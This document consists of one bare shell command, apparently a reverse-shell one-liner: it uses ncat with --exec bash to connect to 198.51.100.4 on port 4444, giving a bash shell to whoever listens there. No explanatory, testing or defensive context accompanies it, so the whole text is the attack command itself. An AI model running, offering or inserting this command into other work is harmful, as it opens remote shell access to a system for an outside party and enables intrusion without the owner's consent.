ncat --exec bash 198.51.100.4 4444
